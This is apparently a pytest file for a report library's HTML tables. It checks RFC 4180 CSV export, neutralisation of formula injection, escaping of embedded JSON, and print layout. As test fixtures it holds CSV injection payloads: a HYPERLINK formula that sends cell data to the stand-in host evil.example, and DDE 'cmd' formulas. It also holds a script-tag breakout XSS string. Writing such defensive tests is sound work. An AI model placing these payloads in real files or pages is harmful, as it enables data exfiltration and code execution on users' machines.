"""The report's tables in HTML: the CSV behind each table's "Download CSV" button (RFC 4180
quoting, full precision, formula injection neutralised), the JSON island that carries it,
long tables summarised on paper, the scroll box around every table and the collapsible
contents. The browser side (click, download, print) is in tests/browser/test_report_layout.py.

Sources: RFC 4180 (CSV: comma separated, CRLF line ends, fields with commas, quotes or line
breaks quoted, quotes doubled); OWASP "CSV Injection" (a field starting with =, +, -, @,
tab or carriage return is prefixed with an apostrophe) and OWASP ASVS 5.0 requirement
1.2.10 (the same, plus the null character).
"""

from __future__ import annotations

import csv
import io
import json
import math
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from leankit.reports import Block, Report, Table
from leankit.reports._report import (
    CSV_MAX_ROWS,
    LONG_TABLE_ROWS,
    PRINT_ROWS,
    csv_cell,
    csv_text,
)

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\0"]  # OWASP + ASVS 1.2.10


def parse(text: str) -> list[list[str]]:
    """The CSV read back by Python's csv module (an independent RFC 4180 reader)."""
    return list(csv.reader(io.StringIO(text, newline="")))


# ------------------------------------------------------------------ csv cells
@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_text_starting_with_a_formula_character_gets_an_apostrophe(first):
    assert csv_cell(first + "1+1") == "'" + first + "1+1"


def test_known_injection_payloads_are_neutralised():
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
    for p in payloads:
        assert csv_cell(p) == "'" + p


def test_numbers_are_not_neutralised_and_keep_full_precision():
    assert csv_cell(-5) == "-5"
    assert csv_cell(np.int64(-12)) == "-12"
    assert csv_cell(-0.1) == "-0.1"
    assert csv_cell(np.float64(-1e-300)) == "-1e-300"
    assert csv_cell(np.float32(0.1)) == "0.1"  # float32's own shortest repr, not 0.100000001
    assert csv_cell(1 / 3) == "0.3333333333333333"
    assert csv_cell(float("-inf")) == "-inf"
    assert csv_cell(12345678901234) == "12345678901234"  # no thousands separators


def test_text_that_looks_like_a_number_is_still_text():
    # a text cell "-5" could be a formula prefix in a spreadsheet: it is neutralised
    assert csv_cell("-5") == "'-5"
    assert csv_cell("5") == "5"
    assert csv_cell("a=b") == "a=b"  # only the first character matters
    assert csv_cell(" =1") == " =1"


def test_missing_values_booleans_and_times():
    for v in (None, np.nan, float("nan"), pd.NA, pd.NaT, np.datetime64("NaT"),
              np.float32("nan")):
        assert csv_cell(v) == "", v
    assert (csv_cell(True), csv_cell(np.bool_(False))) == ("True", "False")
    assert csv_cell(pd.Timestamp("2026-10-28 14:00:05", tz="UTC")) == \
        "2026-10-28T14:00:05+00:00"
    assert csv_cell(np.datetime64("2026-10-28T14:00")) == "2026-10-28T14:00:00"


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_every_finite_float_round_trips(x):
    assert float(csv_cell(x)) == x
    assert float(csv_cell(np.float64(x))) == x


@given(st.text(max_size=30))
def test_no_text_cell_starts_a_formula_and_only_one_apostrophe_is_added(s):
    out = csv_cell(s)
    assert not out.startswith(tuple(FORMULA_STARTS))
    assert out in (s, "'" + s)
    assert (out != s) == s.startswith(tuple(FORMULA_STARTS))


# -------------------------------------------------------------------- csv text
def test_csv_text_follows_rfc_4180():
    df = pd.DataFrame({"name": ["a, b", 'say "hi"', "two\nlines", "=1+1"],
                       "value": [1.5, -2.25, np.nan, 4.0],
                       "n": [1, -2, 3, 4]})
    text = csv_text(df)
    assert text.endswith("\r\n") and text.count("\r\n") == 5
    assert text.splitlines()[0] == "name,value,n"
    assert '"a, b"' in text and '"say ""hi"""' in text and '"two\nlines"' in text
    assert parse(text) == [["name", "value", "n"], ["a, b", "1.5", "1"],
                           ['say "hi"', "-2.25", "-2"], ["two\nlines", "", "3"],
                           ["'=1+1", "4.0", "4"]]


def test_csv_text_neutralises_column_names_and_ignores_the_index():
    df = pd.DataFrame({"=evil()": [1], "ok": ["x"]}, index=["=idx"])
    assert parse(csv_text(df)) == [["'=evil()", "ok"], ["1", "x"]]


def test_csv_text_values_read_back_equal_the_frame():
    """pandas reads the CSV back to the same numbers (an independent parser)."""
    rng = np.random.default_rng(12)
    df = pd.DataFrame({"x": rng.normal(0, 1e3, 50), "k": rng.integers(-9, 9, 50),
                       "t": pd.date_range("2026-01-01", periods=50, freq="h", tz="UTC")})
    back = pd.read_csv(io.StringIO(csv_text(df)), parse_dates=["t"])
    assert back["x"].tolist() == df["x"].tolist()  # exact: repr round-trips
    assert back["k"].tolist() == df["k"].tolist()
    assert (back["t"] == df["t"]).all()


def test_csv_text_caps_the_rows():
    df = pd.DataFrame({"i": range(10)})
    assert parse(csv_text(df, max_rows=3)) == [["i"], ["0"], ["1"], ["2"]]


# ---------------------------------------------------------------------- Table
def test_table_from_frame_carries_every_row_as_csv_up_to_the_cap():
    df = pd.DataFrame({"i": range(150), "s": ["-x"] * 150})
    t = Table.from_frame(df)  # 60 rows shown
    assert (len(t.rows), t.more, t.total) == (60, 90, 150)
    assert t.csv_more == 0
    rows = parse(t.csv)
    assert len(rows) == 151 and rows[-1] == ["149", "'-x"]
    capped = Table.from_frame(df, csv_rows=100)
    assert len(parse(capped.csv)) == 101 and capped.csv_more == 50
    assert CSV_MAX_ROWS == 5000


def test_a_long_table_prints_only_its_first_rows():
    short = Table.from_frame(pd.DataFrame({"i": range(LONG_TABLE_ROWS)}))
    assert not short.long and short.print_rows == LONG_TABLE_ROWS
    long_ = Table.from_frame(pd.DataFrame({"i": range(LONG_TABLE_ROWS + 1)}))
    assert long_.long and long_.print_rows == PRINT_ROWS


def test_a_table_built_by_hand_has_no_csv_button():
    rep = Report(title="t")
    rep.item("S", "by hand", [], open=True)
    rep.sections[0].items[0].blocks.append(Block("table", Table(["a"], [[("1", False)]])))
    doc = rep.to_html()
    assert 'class="lk-table"' in doc
    assert 'class="lk-csv-btn"' not in doc and 'class="lk-csv-data"' not in doc


# --------------------------------------------------------------------- HTML
def _islands(doc: str) -> list[str]:
    return re.findall(r'<script type="application/json" class="lk-csv-data">(.*?)</script>',
                      doc, flags=re.S)


def test_each_table_has_a_download_button_and_its_csv_in_a_json_island():
    rep = Report(title="t")
    a = pd.DataFrame({"name": ["=HYPERLINK(\"http://x\",\"y\")", "-5"], "v": [-1.5, 2.0]})
    b = pd.DataFrame({"k": [1, 2, 3]})
    rep.add_table(a, heading="A", section="S")
    rep.add_table(b, heading="B", section="S")
    doc = rep.to_html()
    assert doc.count('<button type="button" class="lk-csv-btn">Download CSV</button>') == 2
    islands = _islands(doc)
    assert [json.loads(x) for x in islands] == [csv_text(a), csv_text(b)]
    assert parse(json.loads(islands[0]))[1] == ["'=HYPERLINK(\"http://x\",\"y\")", "-1.5"]
    assert parse(json.loads(islands[0]))[2] == ["'-5", "2.0"]
    # the scripts that run are still only plotly.js and report.js
    assert len(re.findall(r"<script>", doc)) == 2


def test_hostile_text_in_a_csv_island_cannot_close_its_script():
    rep = Report(title="t")
    evil = "</script><script>window.__pwned=1</script><!--"
    rep.add_table(pd.DataFrame({"x": [evil, "a & b \u2028"]}), heading="h", section="S")
    doc = rep.to_html()
    (island,) = _islands(doc)
    assert "<" not in island and ">" not in island and "&" not in island
    assert "\u2028" not in island
    assert parse(json.loads(island))[1:] == [[evil], ["a & b \u2028"]]
    assert "<script>window.__pwned=1</script>" not in doc
    assert "&lt;/script&gt;&lt;script&gt;window.__pwned=1" in doc  # the cell, as text


def test_every_table_sits_in_a_scroll_box_and_long_tables_are_summarised_for_print():
    rep = Report(title="t")
    rep.add_table(pd.DataFrame({"i": range(5)}), heading="short", section="S")
    rep.add_table(pd.DataFrame({"i": range(45)}), heading="long", section="S")
    rep.add_table(pd.DataFrame({"i": range(100)}), heading="longer", section="S")
    doc = rep.to_html()
    boxes = re.findall(r'<div class="(lk-table-box[^"]*)">\s*<div class="lk-scroll" '
                       r'tabindex="0">\s*<table class="lk-table">', doc)
    assert boxes == ["lk-table-box", "lk-table-box lk-long", "lk-table-box lk-long"]
    # rows after the 20th of a long table are not printed; a note says how many there are
    assert doc.count('<tr class="lk-noprint">') == (45 - PRINT_ROWS) + (60 - PRINT_ROWS)
    assert ("Printed: the first 20 of 45 rows; the others are in the HTML report and its "
            "CSV download.") in doc
    assert "Printed: the first 20 of 100 rows" in doc
    assert "… 40 more rows not shown; Download CSV has all 100." in doc
    assert doc.count('class="lk-note lk-print-only"') == 2


def test_a_table_over_the_csv_cap_says_so():
    rep = Report(title="t")
    rep.section("S").blocks.append(Block(
        "table", Table.from_frame(pd.DataFrame({"i": range(30)}), max_rows=10, csv_rows=25)))
    doc = rep.to_html()
    assert "the first 25 of 30 rows" in doc
    assert "… 20 more rows not shown." in doc  # the CSV does not have them all either
    assert len(parse(json.loads(_islands(doc)[0]))) == 26


def test_contents_are_a_details_element_open_by_default():
    rep = Report(title="t")
    rep.add_table(pd.DataFrame({"i": [1]}), heading="h", section="S")
    doc = rep.to_html()
    assert re.search(r'<nav class="lk-toc" aria-label="Contents">\s*<details '
                     r'class="lk-toc-box" open>\s*<summary>Contents</summary>', doc)


def test_csv_values_match_the_frame_for_every_cell_type():
    df = pd.DataFrame({"f": [0.1, math.pi], "i": [-3, 4], "b": [True, False],
                       "t": [pd.Timestamp("2026-01-02 03:04", tz="UTC"), pd.NaT],
                       "s": ["ok", None]})
    assert parse(Table.from_frame(df).csv) == [
        ["f", "i", "b", "t", "s"],
        ["0.1", "-3", "True", "2026-01-02T03:04:00+00:00", "ok"],
        [repr(math.pi), "4", "False", "", ""]]


def test_csv_text_drops_direction_overrides_like_the_page():
    """A right-to-left override from data would reverse the rest of a spreadsheet cell;
    the CSV treats text as the HTML does (leankit._text.balance_bidi)."""
    assert csv_cell("Burr\u202eevil") == "Burrevil"
    assert csv_cell("\u2068name") == "\u2068name\u2069"
    rep = Report(title="t")
    rep.add_table(pd.DataFrame({"d\u202e": ["x\u202ey"]}), heading="h", section="S")
    assert "\u202e" not in rep.to_html()
